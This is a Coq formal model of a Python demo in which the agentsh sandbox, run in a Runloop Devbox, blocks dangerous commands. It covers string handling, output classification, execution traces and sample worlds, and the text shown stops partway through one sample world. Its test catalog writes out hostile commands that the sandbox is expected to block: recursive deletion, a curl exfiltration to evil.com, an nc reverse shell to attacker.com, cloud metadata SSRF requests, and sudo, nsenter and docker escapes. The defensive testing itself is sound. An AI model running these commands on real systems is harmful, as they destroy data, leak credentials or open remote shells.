(** * agentsh + Runloop security demo: a model of [example.py]

    The script provisions a Blueprint and a Devbox through the Runloop
    client, runs the probes of [SECURITY_TESTS] one after another, counts
    the verdicts and shuts the Devbox down in a [finally] block.

    Conventions of the model.
    - A Python [str] is a [string] whose characters are the code points
      below 256 (Latin-1).  [str.lower] and [str.strip] are written out for
      that range; code points above it are outside the model.
    - A Python [int] is a [Z].
    - Every call that leaves the process (the Runloop client, [print],
      [asyncio.sleep], file reads) is an event.  The answers of the
      Runloop client and of the file reads come from a [World], those of
      [print] and [asyncio.sleep] from a [Console]; both may look at the
      whole history of events.
    - [main] is written down twice.  [Run] is [main] when every [print]
      and every [asyncio.sleep] returns; [Full] is [main] on a [Console]
      that can make them raise.  On a console that never raises [Full]
      is [Run] ([FullFacts.main_on_quiet]).
    - [while True] polling loops take fuel; running out of it is the
      separate result [OutOfFuel], never a normal return. *)

From Stdlib Require Import ZArith Lia List Bool Arith Ascii String DecimalString.
Import ListNotations.
Open Scope string_scope.

(* ===================================================================== *)
(** * Python string operations used by the script *)
(* ===================================================================== *)

Module PyStr.

(** [c.isspace()] for a code point below 256. *)
Definition is_space (c : ascii) : bool :=
  let n := nat_of_ascii c in
  (((9 <=? n) && (n <=? 13)) || ((28 <=? n) && (n <=? 32))
   || (n =? 133) || (n =? 160))%nat.

(** [c.lower()] for a code point below 256: the ASCII capitals and the
    Latin-1 capitals U+00C0..U+00DE except the multiplication sign. *)
Definition lower_char (c : ascii) : ascii :=
  let n := nat_of_ascii c in
  if (((65 <=? n) && (n <=? 90)) || ((192 <=? n) && (n <=? 214))
      || ((216 <=? n) && (n <=? 222)))%nat
  then ascii_of_nat (n + 32) else c.

(** [s.lower()] *)
Fixpoint lower (s : string) : string :=
  match s with
  | EmptyString => EmptyString
  | String c s' => String (lower_char c) (lower s')
  end.

(** [s.lstrip()] *)
Fixpoint lstrip (s : string) : string :=
  match s with
  | EmptyString => EmptyString
  | String c s' => if is_space c then lstrip s' else s
  end.

(** [s.rstrip()] *)
Fixpoint rstrip (s : string) : string :=
  match s with
  | EmptyString => EmptyString
  | String c s' =>
      match rstrip s' with
      | EmptyString => if is_space c then EmptyString else String c EmptyString
      | r => String c r
      end
  end.

(** [s.strip()] *)
Definition strip (s : string) : string := rstrip (lstrip s).

(** [s.startswith(sub)] *)
Fixpoint startswith (sub s : string) : bool :=
  match sub, s with
  | EmptyString, _ => true
  | String _ _, EmptyString => false
  | String a sub', String b s' => Ascii.eqb a b && startswith sub' s'
  end.

(** [sub in s] *)
Fixpoint contains (sub s : string) : bool :=
  startswith sub s
  || match s with
     | EmptyString => false
     | String _ s' => contains sub s'
     end.

(** [s[:n]] *)
Fixpoint take (n : nat) (s : string) : string :=
  match n, s with
  | O, _ => EmptyString
  | S _, EmptyString => EmptyString
  | S n', String c s' => String c (take n' s')
  end.

(** [s[n:]] *)
Fixpoint drop (n : nat) (s : string) : string :=
  match n, s with
  | O, _ => s
  | S _, EmptyString => EmptyString
  | S n', String _ s' => drop n' s'
  end.

(** [c * n] for a one-character string [c] *)
Fixpoint repeat_char (c : ascii) (n : nat) : string :=
  match n with
  | O => EmptyString
  | S n' => String c (repeat_char c n')
  end.

(** [str(z)] for an integer *)
Definition str_of_int (z : Z) : string := NilEmpty.string_of_int (Z.to_int z).

(** Every character of [s] satisfies [p]. *)
Fixpoint all_chars (p : ascii -> bool) (s : string) : bool :=
  match s with
  | EmptyString => true
  | String c s' => p c && all_chars p s'
  end.

(** The last character of [s] satisfies [p] ([false] on the empty string). *)
Fixpoint last_char (p : ascii -> bool) (s : string) : bool :=
  match s with
  | EmptyString => false
  | String c EmptyString => p c
  | String _ s' => last_char p s'
  end.

(** The first character of [s] satisfies [p] ([false] on the empty string). *)
Definition first_char (p : ascii -> bool) (s : string) : bool :=
  match s with
  | EmptyString => false
  | String c _ => p c
  end.

(** [c] is not white space. *)
Definition not_space (c : ascii) : bool := negb (is_space c).

(** [c] is not a full stop. *)
Definition not_dot (c : ascii) : bool := negb (Ascii.eqb c ".").

(** [d] is a character that [lower] neither produces nor changes. *)
Definition case_free (d : ascii) : Prop :=
  forall c, Ascii.eqb d (lower_char c) = Ascii.eqb d c.

Fixpoint all_case_free (sub : string) : Prop :=
  match sub with
  | EmptyString => True
  | String d sub' => case_free d /\ all_case_free sub'
  end.

End PyStr.

(* ===================================================================== *)
(** * The classification block of the probe loop (lines 313-339) *)
(* ===================================================================== *)

(** What [execute_sync] returns: [result.exit_status], [result.stdout],
    [result.stderr]; the two texts may be [None]. *)
Record ExecutionResult : Type := mkResult {
  exit_status : Z;
  stdout : option string;
  stderr : option string
}.

(** One entry of a category's ["tests"] list. *)
Record Test : Type := mkTest {
  name : string;
  command : string;
  expect : string;
  description : string
}.

Inductive Verdict : Type := Passed | Failed | Errored.

Module Classifier.
Import PyStr.

(** [x or ""] for [x] a string or [None]. *)
Definition or_empty (x : option string) : string :=
  match x with
  | Some s => s
  | None => EmptyString
  end.

(** Line 315: [(stdout + stderr).strip()]. *)
Definition combined (result : ExecutionResult) : string :=
  strip (or_empty (stdout result) ++ or_empty (stderr result)).

(** Lines 318-319: [if len(output) > 200: output = output[:200] + "..."]. *)
Definition truncate (output : string) : string :=
  if (200 <? String.length output)%nat then take 200 output ++ "..." else output.

(** The value of the variable [output] after line 319. *)
Definition output (result : ExecutionResult) : string :=
  truncate (combined result).

(** Lines 324-337: the value of [passed] from [test["expect"]], the
    variable [output] and [exit_code]. *)
Definition passed_on (expect_ : string) (output_ : string) (exit_code : Z) : bool :=
  if String.eqb expect_ "blocked" then
    negb (exit_code =? 0)%Z
    || contains "blocked" (lower output_)
    || contains "denied" (lower output_)
    || contains "permission" (lower output_)
    || contains "400" output_
    || contains "not found" (lower output_)
  else if String.eqb expect_ "success" then
    (exit_code =? 0)%Z
  else true.

(** [passed] as the loop body computes it for one test and one result. *)
Definition passed (test : Test) (result : ExecutionResult) : bool :=
  passed_on (expect test) (output result) (exit_status result).

(** The counter that line 340 increments. *)
Definition verdict (test : Test) (result : ExecutionResult) : Verdict :=
  if passed test result then Passed else Failed.

(** The same decision taken on the combined text before lines 318-319
    shorten it: what a classifier that keeps truncation for display only
    would compute. *)
Definition passed_untruncated (test : Test) (result : ExecutionResult) : bool :=
  passed_on (expect test) (combined result) (exit_status result).

Definition verdict_untruncated (test : Test) (result : ExecutionResult) : Verdict :=
  if passed_untruncated test result then Passed else Failed.

(** The five literal substrings of the blocked branch. *)
Definition blocked_markers : list string :=
  ["blocked"; "denied"; "permission"; "400"; "not found"].

(** [text] contains [sub] when case is ignored: [sub] occurs in the
    lower-cased text. *)
Definition occurs_ci (sub text : string) : Prop :=
  exists pre post, lower text = pre ++ sub ++ post.

(** The stdout+stderr text of a result, nothing stripped or cut. *)
Definition full_text (result : ExecutionResult) : string :=
  or_empty (stdout result) ++ or_empty (stderr result).

(** The text shows one of the blocked markers, case ignored. *)
Definition blocking_signal (text : string) : Prop :=
  exists sub, In sub blocked_markers /\ occurs_ci sub text.

End Classifier.

(* ===================================================================== *)
(** * The test catalog [SECURITY_TESTS] (lines 27-187) *)
(* ===================================================================== *)

(** One value of the [SECURITY_TESTS] dict: ["title"], ["description"],
    ["tests"]. *)
Record Category : Type := mkCategory {
  title : string;
  cat_description : string;
  tests : list Test
}.

(** A dict literal iterated with [.items()]: the pairs in insertion order. *)
Definition Catalog : Type := list (string * Category).

Definition SECURITY_TESTS : Catalog :=
  [ ("ai_agent",
     mkCategory "AI Agent Code Execution Protection"
       "Protect against malicious AI-generated code, prompt injection, and hallucinations"
       [ mkTest "Block recursive rm (AI hallucination)"
           "rm -rf /home 2>&1" "blocked"
           "AI agent attempting destructive command";
         mkTest "Block data exfiltration"
           "curl -s https://evil.com/exfil 2>&1" "blocked"
           "Prompt injection leading to data exfiltration";
         mkTest "Block reverse shell (nc)"
           "nc -e /bin/bash attacker.com 4444 2>&1" "blocked"
           "Malicious code attempting reverse shell";
         mkTest "Soft-delete protection"
           "touch /tmp/testfile && rm /tmp/testfile 2>&1; echo 'delete attempted'"
           "success"
           "Single file deletes allowed (soft-delete in workspace)" ]);
    ("cloud_infra",
     mkCategory "Cloud Infrastructure Protection"
       "Prevent SSRF, credential theft, and lateral movement in cloud environments"
       [ mkTest "Block AWS metadata service"
           "curl -s --connect-timeout 2 http://169.254.169.254/latest/meta-data/ 2>&1"
           "blocked"
           "Prevent SSRF to AWS instance metadata";
         mkTest "Block GCP metadata service"
           "curl -s --connect-timeout 2 -H 'Metadata-Flavor: Google' http://169.254.169.254/ 2>&1"
           "blocked"
           "Prevent SSRF to GCP instance metadata";
         mkTest "Block internal network (10.x.x.x)"
           "curl -s --connect-timeout 2 http://10.0.0.1:8080/ 2>&1" "blocked"
           "Prevent lateral movement to internal services";
         mkTest "Block internal network (172.16.x.x)"
           "curl -s --connect-timeout 2 http://172.16.0.1/ 2>&1" "blocked"
           "Prevent lateral movement to private network";
         mkTest "Block Kubernetes API"
           "curl -sk --connect-timeout 2 https://kubernetes.default.svc/ 2>&1"
           "blocked"
           "Prevent access to K8s control plane" ]);
    ("isolation",
     mkCategory "Multi-Tenant Isolation"
       "Prevent container escape, privilege escalation, and resource abuse"
       [ mkTest "Block sudo" "sudo whoami 2>&1" "blocked"
           "Prevent privilege escalation via sudo";
         mkTest "Block su" "su - root -c whoami 2>&1" "blocked"
           "Prevent privilege escalation via su";
         mkTest "Block nsenter (container escape)"
           "nsenter --target 1 --mount 2>&1" "blocked"
           "Prevent escape to host namespace";
         mkTest "Block docker command" "docker ps 2>&1" "blocked"
           "Prevent Docker-in-Docker abuse";
         mkTest "Block pkill (process control)" "pkill -9 bash 2>&1" "blocked"
           "Prevent killing processes" ]);
    ("allowed",
     mkCategory "Allowed Operations"
       "Verify normal development operations work correctly"
       [ mkTest "Basic echo" "echo 'Hello from agentsh sandbox'" "success"
           "Basic shell command";
         mkTest "List files" "ls -la /home" "success" "File listing";
         mkTest "Git version" "git --version" "success" "Git operations";
         mkTest "Bash execution" "bash -c 'echo $((1+1))'" "success"
           "Bash code execution";
         mkTest "npm registry access"
           "curl -sI https://registry.npmjs.org/ 2>&1 | head -1" "success"
           "Package registry access (allowed)";
         mkTest "agentsh version" "/usr/bin/agentsh --version" "success"
           "agentsh is installed" ]) ].

(** Every test of a catalog, in execution order. *)
Definition all_tests (catalog : Catalog) : list Test :=
  flat_map (fun kc => tests (snd kc)) catalog.

(* ===================================================================== *)
(** * Exceptions, events and the outside world *)
(* ===================================================================== *)

(** The exception classes the handlers of the script tell apart. *)
Inductive exn : Type :=
| TimeoutError                    (* asyncio.TimeoutError *)
| Exception (msg : string)        (* any other subclass of Exception, [str(e) = msg] *)
| BaseException (msg : string)    (* KeyboardInterrupt, CancelledError: not an Exception *)
| SystemExit (code : Z).          (* sys.exit(code) *)

(** [isinstance(e, Exception)] *)
Definition is_Exception (e : exn) : bool :=
  match e with
  | TimeoutError | Exception _ => true
  | BaseException _ | SystemExit _ => false
  end.

(** What a call to the outside gives back. *)
Inductive answer (A : Type) : Type :=
| Returns (a : A)
| Raises (e : exn).
Arguments Returns {A} a.
Arguments Raises {A} e.

(** The calls that leave the process, each with the answer it got. *)
Inductive event : Type :=
| EvPrint (text : string)
| EvSleep (seconds : Z)
| EvReadText (file : string) (a : answer string)
| EvBlueprintsCreate (name_ dockerfile : string)
    (file_mounts : list (string * string)) (launch_commands : list string)
    (a : answer string)
| EvBlueprintsRetrieve (id : string) (a : answer string)
| EvBlueprintsLogs (id : string) (a : answer string)
| EvDevboxesCreate (blueprint_id : string) (a : answer string)
| EvDevboxesRetrieve (id : string) (a : answer string)
| EvExecuteSync (id command_ : string) (timeout : Z) (a : answer ExecutionResult)
| EvShutdown (id : string) (a : answer unit).

Definition trace : Type := list event.

(** The environment of one run.  Each remote operation sees the events so
    far, so its answers may change from call to call.  [print] and
    [asyncio.sleep] have no entry here: they are answered by a [Console],
    defined with [Full]. *)
Record World : Type := mkWorld {
  environ_get : string -> option string;
  client_importable : bool;
  read_text : trace -> string -> answer string;
  blueprints_create :
    trace -> string -> string -> list (string * string) -> list string ->
    answer string;
  blueprints_retrieve : trace -> string -> answer string;
  blueprints_logs : trace -> string -> answer string;
  devboxes_create : trace -> string -> answer string;
  devboxes_retrieve : trace -> string -> answer string;
  devboxes_execute_sync : trace -> string -> string -> Z -> answer ExecutionResult;
  devboxes_shutdown : trace -> string -> answer unit
}.

(* ===================================================================== *)
(** * The monad of the script: history in, outcome and new events out *)
(* ===================================================================== *)

Inductive outcome (A : Type) : Type :=
| Done (a : A)
| Raise (e : exn)
| OutOfFuel.
Arguments Done {A} a.
Arguments Raise {A} e.
Arguments OutOfFuel {A}.

(** A computation reads the events so far and gives its outcome with the
    events it added. *)
Definition M (A : Type) : Type := trace -> outcome A * trace.

Definition ret {A} (a : A) : M A := fun _ => (Done a, []).

Definition bind {A B} (m : M A) (f : A -> M B) : M B :=
  fun h =>
    let '(r, e1) := m h in
    match r with
    | Done a => let '(r2, e2) := f a (h ++ e1)%list in (r2, (e1 ++ e2)%list)
    | Raise e => (Raise e, e1)
    | OutOfFuel => (OutOfFuel, e1)
    end.

Definition raise {A} (e : exn) : M A := fun _ => (Raise e, []).

Definition out_of_fuel {A} : M A := fun _ => (OutOfFuel, []).

Definition emit (ev : event) : M unit := fun _ => (Done tt, [ev]).

(** A call to the outside: ask the world, log the answer, return or raise. *)
Definition call {A} (ask : trace -> answer A) (log : answer A -> event) : M A :=
  fun h =>
    let a := ask h in
    (match a with Returns x => Done x | Raises e => Raise e end, [log a]).

(** [try: m except <classes of handler>: ...]; the handler re-raises what
    its clauses do not match. *)
Definition try_except {A} (m : M A) (handler : exn -> M A) : M A :=
  fun h =>
    let '(r, e1) := m h in
    match r with
    | Raise e => let '(r2, e2) := handler e (h ++ e1)%list in (r2, (e1 ++ e2)%list)
    | _ => (r, e1)
    end.

(** [try: m finally: fin].  [fin] runs after [m] returned or raised; when
    [fin] raises, its exception replaces the outcome of [m]. *)
Definition try_finally {A} (m : M A) (fin : M unit) : M A :=
  fun h =>
    let '(r, e1) := m h in
    match r with
    | OutOfFuel => (OutOfFuel, e1)
    | _ =>
        let '(r2, e2) := fin (h ++ e1)%list in
        (match r2 with
         | Done _ => r
         | Raise e => Raise e
         | OutOfFuel => OutOfFuel
         end, (e1 ++ e2)%list)
    end.

Declare Scope py_scope.
Delimit Scope py_scope with py.
Notation "x <- m ;; k" := (bind m (fun x => k))
  (at level 61, m at next level, right associativity) : py_scope.
Notation "m ;; k" := (bind m (fun _ => k))
  (at level 61, right associativity) : py_scope.

(** [print] and [asyncio.sleep] when they return, the statements of
    [Run].  [Full.print] and [Full.sleep] are the same statements on a
    [Console] that can make them raise. *)
Definition print (text : string) : M unit := emit (EvPrint text).
Definition sleep (seconds : Z) : M unit := emit (EvSleep seconds).

(* ===================================================================== *)
(** * [main] (lines 190-402) when [print] and [asyncio.sleep] return *)
(* ===================================================================== *)

Module Run.
Import PyStr.
Local Open Scope py_scope.

(** The dict [results] of line 293, with its three fixed keys. *)
Record Results : Type := mkResults {
  passed : Z;
  failed : Z;
  errors : Z
}.

(** [results[key] += 1] for the key that belongs to a verdict. *)
Definition incr (key : Verdict) (results : Results) : Results :=
  match key with
  | Passed => mkResults (passed results + 1) (failed results) (errors results)
  | Failed => mkResults (passed results) (failed results + 1) (errors results)
  | Errored => mkResults (passed results) (failed results) (errors results + 1)
  end.

Definition nl : string := String (ascii_of_nat 10) EmptyString.

(** ["=" * 70] *)
Definition rule : string := repeat_char "="%char 70.

(** The f-string of lines 361-389. *)
Definition summary_text (results : Results) : string :=
  "
    Tests passed: " ++ str_of_int (passed results) ++
  "
    Tests failed: " ++ str_of_int (failed results) ++
  "
    Errors:       " ++ str_of_int (errors results) ++
  "

    Security features demonstrated:

    AI AGENT PROTECTION:
      - Recursive delete (rm -rf) blocked
      - Reverse shell attempts blocked
      - Data exfiltration to evil.com blocked

    CLOUD INFRASTRUCTURE:
      - AWS/GCP metadata service blocked (SSRF prevention)
      - Internal network access blocked (lateral movement prevention)
      - Kubernetes API blocked

    MULTI-TENANT ISOLATION:
      - sudo/su blocked (privilege escalation prevention)
      - nsenter blocked (container escape prevention)
      - docker command blocked (DinD abuse prevention)
      - kill command blocked (system stability)

    HOW IT WORKS:
      1. /bin/bash replaced with agentsh-shell-shim
      2. All commands routed through agentsh policy engine
      3. HTTPS_PROXY set to agentsh proxy for network filtering
      4. Policy rules (default.yaml) enforce allow/deny/approve decisions
".

Section Script.
Variable w : World.

(** Lines 192-202: the API key and the client library. *)
Definition check_prerequisites : M unit :=
  (match environ_get w "RUNLOOP_API_KEY" with
   | None | Some EmptyString =>
       print "Error: RUNLOOP_API_KEY environment variable not set" ;;
       print "Get your API key from https://app.runloop.ai" ;;
       raise (SystemExit 1)
   | Some _ => ret tt
   end) ;;
  if client_importable w then ret tt
  else
    print "Error: runloop-api-client not installed" ;;
    print "Run: pip install runloop-api-client" ;;
    raise (SystemExit 1).

(** [(script_dir / file).read_text()] *)
Definition read_file (file : string) : M string :=
  call (fun h => read_text w h file) (EvReadText file).

(** Lines 244-261: poll the blueprint until it is built or has failed. *)
Fixpoint wait_for_blueprint (fuel : nat) (blueprint_id : string) : M unit :=
  match fuel with
  | O => out_of_fuel
  | S fuel' =>
      status <- call (fun h => blueprints_retrieve w h blueprint_id)
                     (EvBlueprintsRetrieve blueprint_id) ;;
      print ("    Status: " ++ status) ;;
      if String.eqb status "build_complete" then
        print "    Blueprint build complete!"
      else if String.eqb status "build_failed" then
        try_except
          (logs <- call (fun h => blueprints_logs w h blueprint_id)
                        (EvBlueprintsLogs blueprint_id) ;;
           print ("    Build logs: " ++ logs))
          (fun e => if is_Exception e then ret tt else raise e) ;;
        raise (Exception "Blueprint build failed")
      else
        sleep 5 ;;
        wait_for_blueprint fuel' blueprint_id
  end.

(** Lines 220-261: step 1, the blueprint; returns [blueprint.id]. *)
Definition create_blueprint (fuel : nat)
    (dockerfile default_yaml config_yaml : string) : M string :=
  print (nl ++ "[1] Creating Blueprint with agentsh...") ;;
  print "    This may take a few minutes on first run (building image)" ;;
  blueprint_id <-
    call (fun h =>
            blueprints_create w h "agentsh-sandbox" dockerfile
              [ ("/tmp/agentsh-config/default.yaml", default_yaml);
                ("/tmp/agentsh-config/config.yaml", config_yaml) ]
              [ "sudo cp /tmp/agentsh-config/config.yaml /etc/agentsh/config.yaml";
                "sudo cp /tmp/agentsh-config/default.yaml /etc/agentsh/policies/default.yaml";
                "sudo agentsh shim install-shell --root / --shim /usr/bin/agentsh-shell-shim --bash --i-understand-this-modifies-the-host" ])
         (EvBlueprintsCreate "agentsh-sandbox" dockerfile
              [ ("/tmp/agentsh-config/default.yaml", default_yaml);
                ("/tmp/agentsh-config/config.yaml", config_yaml) ]
              [ "sudo cp /tmp/agentsh-config/config.yaml /etc/agentsh/config.yaml";
                "sudo cp /tmp/agentsh-config/default.yaml /etc/agentsh/policies/default.yaml";
                "sudo agentsh shim install-shell --root / --shim /usr/bin/agentsh-shell-shim --bash --i-understand-this-modifies-the-host" ]) ;;
  print ("    Blueprint ID: " ++ blueprint_id) ;;
  print "    Waiting for build to complete..." ;;
  wait_for_blueprint fuel blueprint_id ;;
  ret blueprint_id.

(** Lines 273-283: poll the devbox until it runs or has failed. *)
Fixpoint wait_for_devbox (fuel : nat) (devbox_id : string) : M unit :=
  match fuel with
  | O => out_of_fuel
  | S fuel' =>
      status <- call (fun h => devboxes_retrieve w h devbox_id)
                     (EvDevboxesRetrieve devbox_id) ;;
      if String.eqb status "running" then
        print "    Devbox is running!"
      else if String.eqb status "failed" || String.eqb status "shutdown" then
        raise (Exception ("Devbox failed to start: " ++ status))
      else
        sleep 2 ;;
        wait_for_devbox fuel' devbox_id
  end.

(** Lines 266-287: step 2, the devbox; returns [devbox.id].  With prints
    and a pause that return, nothing ends the run between the poll that
    answered ["running"] and the [try] of line 292; [Full.create_devbox]
    has these exits. *)
Definition create_devbox (fuel : nat) (blueprint_id : string) : M string :=
  print (nl ++ "[2] Creating Devbox from Blueprint...") ;;
  devbox_id <- call (fun h => devboxes_create w h blueprint_id)
                    (EvDevboxesCreate blueprint_id) ;;
  print ("    Devbox ID: " ++ devbox_id) ;;
  print "    Waiting for Devbox to be ready..." ;;
  wait_for_devbox fuel devbox_id ;;
  print "    Waiting for agentsh daemon to initialize..." ;;
  sleep 10 ;;
  ret devbox_id.

(** Lines 302-353: the body of the inner [for] loop.  With prints that
    return, the only statement of the [try] that can raise is
    [execute_sync], which comes before line 340, so both handlers see
    [results] as it was on entry.  [Full.run_test] is the same body with
    prints that can raise after line 340. *)
Definition run_test (devbox_id : string) (test : Test) (results : Results)
  : M Results :=
  print (nl ++ "[TEST] " ++ name test) ;;
  print ("       " ++ description test) ;;
  print ("       Command: " ++ take 60 (command test)
         ++ (if (60 <? String.length (command test))%nat then "..." else "")) ;;
  try_except
    (result <- call (fun h => devboxes_execute_sync w h devbox_id (command test) 30)
                    (EvExecuteSync devbox_id (command test) 30) ;;
     let output := Classifier.output result in
     let exit_code := exit_status result in
     let passed := Classifier.passed_on (expect test) output exit_code in
     let status := if passed then "PASS" else "FAIL" in
     let results := incr (if passed then Passed else Failed) results in
     print ("       Output: "
            ++ (if String.eqb output "" then "(no output)" else output)) ;;
     print ("       Exit code: " ++ str_of_int exit_code) ;;
     print ("       Result: [" ++ status ++ "]") ;;
     ret results)
    (fun e =>
       match e with
       | TimeoutError =>
           print "       Error: Command timed out" ;;
           print "       Result: [ERROR]" ;;
           ret (incr Errored results)
       | Exception msg =>
           print ("       Error: " ++ msg) ;;
           print "       Result: [ERROR]" ;;
           ret (incr Errored results)
       | _ => raise e
       end).

(** Lines 301-353: the inner [for test in category["tests"]]. *)
Fixpoint run_tests (devbox_id : string) (ts : list Test) (results : Results)
  : M Results :=
  match ts with
  | [] => ret results
  | test :: ts' =>
      results <- run_test devbox_id test results ;;
      run_tests devbox_id ts' results
  end.

(** Lines 295-353: the outer [for category_key, category in ...]. *)
Fixpoint run_categories (devbox_id : string) (catalog : Catalog)
    (results : Results) : M Results :=
  match catalog with
  | [] => ret results
  | (category_key, category) :: catalog' =>
      print (nl ++ rule) ;;
      print ("  " ++ title category) ;;
      print ("  " ++ cat_description category) ;;
      print rule ;;
      results <- run_tests devbox_id (tests category) results ;;
      run_categories devbox_id catalog' results
  end.

(** Lines 293-389: the body of the outer [try]; returns the final
    [results] so that statements can speak about the counters. *)
Definition security_tests (catalog : Catalog) (devbox_id : string) : M Results :=
  let results := mkResults 0 0 0 in
  results <- run_categories devbox_id catalog results ;;
  print (nl ++ rule) ;;
  print "  SUMMARY" ;;
  print rule ;;
  print (summary_text results) ;;
  ret results.

(** Lines 395-397: the [finally] block.  With a [print] of line 395 that
    returns, the [shutdown] of line 396 is always reached;
    [Full.cleanup] has the [print] that can raise before it. *)
Definition cleanup (devbox_id : string) : M unit :=
  print (nl ++ "[CLEANUP] Shutting down Devbox...") ;;
  call (fun h => devboxes_shutdown w h devbox_id) (EvShutdown devbox_id) ;;
  print ("    Devbox " ++ devbox_id ++ " shut down.").

(** Lines 192-287: everything before the outer [try]; returns
    [devbox.id]. *)
Definition provision (fuel : nat) : M string :=
  check_prerequisites ;;
  print rule ;;
  print "  agentsh + Runloop Security Demo" ;;
  print rule ;;
  dockerfile <- read_file "Dockerfile" ;;
  default_yaml <- read_file "default.yaml" ;;
  config_yaml <- read_file "config.yaml" ;;
  blueprint_id <- create_blueprint fuel dockerfile default_yaml config_yaml ;;
  create_devbox fuel blueprint_id.

(** [main] over an arbitrary catalog: lines 192-287, then the
    [try ... finally] of lines 292-397. *)
Definition main_on (catalog : Catalog) (fuel : nat) : M Results :=
  devbox_id <- provision fuel ;;
  try_finally (security_tests catalog devbox_id) (cleanup devbox_id).

(** [main()] of the script. *)
Definition main (fuel : nat) : M Results := main_on SECURITY_TESTS fuel.

End Script.

(** The outcome and the events of a whole run, from an empty history. *)
Definition run (w : World) (fuel : nat) : outcome Results * trace :=
  main w fuel [].

Definition run_on (w : World) (catalog : Catalog) (fuel : nat)
  : outcome Results * trace :=
  main_on w catalog fuel [].

End Run.

(* ===================================================================== *)
(** * Reading a trace *)
(* ===================================================================== *)

Module Trace.

Definition is_print (ev : event) : bool :=
  match ev with EvPrint _ => true | _ => false end.

Definition is_shutdown (ev : event) : bool :=
  match ev with EvShutdown _ _ => true | _ => false end.

Definition is_execute (ev : event) : bool :=
  match ev with EvExecuteSync _ _ _ _ => true | _ => false end.

Definition is_devbox_poll (ev : event) : bool :=
  match ev with EvDevboxesRetrieve _ _ => true | _ => false end.

Definition is_blueprint_poll (ev : event) : bool :=
  match ev with EvBlueprintsRetrieve _ _ => true | _ => false end.

Definition is_logs (ev : event) : bool :=
  match ev with EvBlueprintsLogs _ _ => true | _ => false end.

(** How many events of a trace satisfy [p]. *)
Definition count (p : event -> bool) (tr : trace) : nat :=
  List.length (filter p tr).

(** Some poll of a devbox was answered with the status ["running"]. *)
Definition reached_running (tr : trace) : Prop :=
  exists id, In (EvDevboxesRetrieve id (Returns "running")) tr.

(** The devbox and the answer of the latest [devboxes.retrieve] of a
    trace (events are in chronological order). *)
Fixpoint last_poll (tr : trace) : option (string * answer string) :=
  match tr with
  | [] => None
  | ev :: tr' =>
      match last_poll tr' with
      | Some p => Some p
      | None =>
          match ev with
          | EvDevboxesRetrieve id a => Some (id, a)
          | _ => None
          end
      end
  end.

(** An event of the provisioning phase: no probe and no shutdown. *)
Definition setup_event (ev : event) : Prop :=
  is_execute ev = false /\ is_shutdown ev = false.

(** An event of the probe loop on devbox [id]: a print, or a command sent
    to that devbox with the timeout 30. *)
Definition probe_event (id : string) (ev : event) : Prop :=
  match ev with
  | EvPrint _ => True
  | EvExecuteSync id' _ timeout _ => id' = id /\ timeout = 30%Z
  | _ => False
  end.

(** The events of the [finally] block when [shutdown] answers [a]. *)
Definition cleanup_events (id : string) (a : answer unit) : trace :=
  EvPrint (Run.nl ++ "[CLEANUP] Shutting down Devbox...")
  :: EvShutdown id a
  :: match a with
     | Returns _ => [ EvPrint ("    Devbox " ++ id ++ " shut down.") ]
     | Raises _ => []
     end.

(** What one probe does to the run, from the answer of [execute_sync]. *)
Definition probe_outcome (test : Test) (results : Run.Results)
    (a : answer ExecutionResult) : outcome Run.Results :=
  match a with
  | Returns result => Done (Run.incr (Classifier.verdict test result) results)
  | Raises e =>
      if is_Exception e then Done (Run.incr Errored results) else Raise e
  end.

(** [results] after the verdicts [vs], one increment each, from zero. *)
Definition tally (vs : list Verdict) : Run.Results :=
  fold_left (fun results v => Run.incr v results) vs (Run.mkResults 0 0 0).

Definition total (results : Run.Results) : Z :=
  (Run.passed results + Run.failed results + Run.errors results)%Z.

(** A computation satisfies [S] when its outcome and its events do,
    whatever happened before. *)
Definition sat {A} (m : M A) (S : outcome A -> trace -> Prop) : Prop :=
  forall h, S (fst (m h)) (snd (m h)).

(** Every event a computation adds satisfies [N]. *)
Definition emits {A} (N : event -> Prop) (m : M A) : Prop :=
  sat m (fun _ E => Forall N E).

End Trace.

(* ===================================================================== *)
(** * Sample worlds and results *)
(* ===================================================================== *)

Module Samples.

(** Everything succeeds: the build completes at the second poll, the
    devbox runs at the second poll, every command exits with status 1 and
    the text "blocked by policy" when it is a privileged or network
    command and with status 0 otherwise. *)
Definition world_ok : World := mkWorld
  (fun key => if String.eqb key "RUNLOOP_API_KEY" then Some "secret" else None)
  true
  (fun _ file => Returns ("# " ++ file))
  (fun _ _ _ _ _ => Returns "bpt_1")
  (fun h _ =>
     if (Trace.count Trace.is_blueprint_poll h =? 0)%nat
     then Returns "building" else Returns "build_complete")
  (fun _ _ => Returns "build log")
  (fun _ _ => Returns "dbx_1")
  (fun h _ =>
     if (Trace.count Trace.is_devbox_poll h =? 0)%nat
     then Returns "provisioning" else Returns "running")
  (fun _ _ command_ _ =>
     if PyStr.startswith "sudo" command_ || PyStr.startswith "curl -s " command_
     then Returns (mkResult 1 None (Some "blocked by policy"))
     else Returns (mkResult 0 (Some "ok") None))
  (fun _ _ => Returns tt).

(** [w] with another answer of [execute_sync]. *)
Definition with_execute_sync
    (f : trace -> string -> string -> Z -> answer ExecutionResult)
    (w : World) : World :=
  mkWorld (environ_get w) (client_importable w) (read_text w)
    (blueprints_create w) (blueprints_retrieve w) (blueprints_logs w)
    (devboxes_create w) (devboxes_retrieve w) f (devboxes_shutdown w).

(** [w] with another answer of [shutdown]. *)
Definition with_shutdown (f : trace -> string -> answer unit) (w : World)
  : World :=
  mkWorld (environ_get w) (client_importable w) (read_text w)
    (blueprints_create w) (blueprints_retrieve w) (blueprints_logs w)
    (devboxes_create w) (devboxes_retrieve w) (devboxes_execute_sync w) f.

(** [w] with a blueprint called [id] whose build fails at the first poll
    and whose logs answer [logs]. *)
Definition with_failed_build (id : string) (logs : answer string) (w : World)
  : World :=
  mkWorld (environ_get w) (client_importable w) (read_text w)
    (fun _ _ _ _ _ => Returns id) (fun _ _ => Returns "build_failed")
    (fun _ _ => logs)
    (devboxes_create w) (devboxes_retrieve w) (devboxes_execute_sync w)
    (devboxes_shutdown w).

(** [sudo whoami] times out, [su] loses the connection; the rest is
    [world_ok]. *)
Definition world_probe_errors : World :=
  with_execute_sync
    (fun h id command_ timeout =>
       if String.eqb command_ "sudo whoami 2>&1" then Raises TimeoutError
       else if String.eqb command_ "su - root -c whoami 2>&1"
       then Raises (Exception "Connection reset by peer")
       else devboxes_execute_sync world_ok h id command_ timeout)
    world_ok.

(** The run is interrupted while [docker ps] executes. *)
Definition world_interrupted : World :=
  with_execute_sync
    (fun h id command_ timeout =>
       if String.eqb command_ "docker ps 2>&1"
       then Raises (BaseException "KeyboardInterrupt")
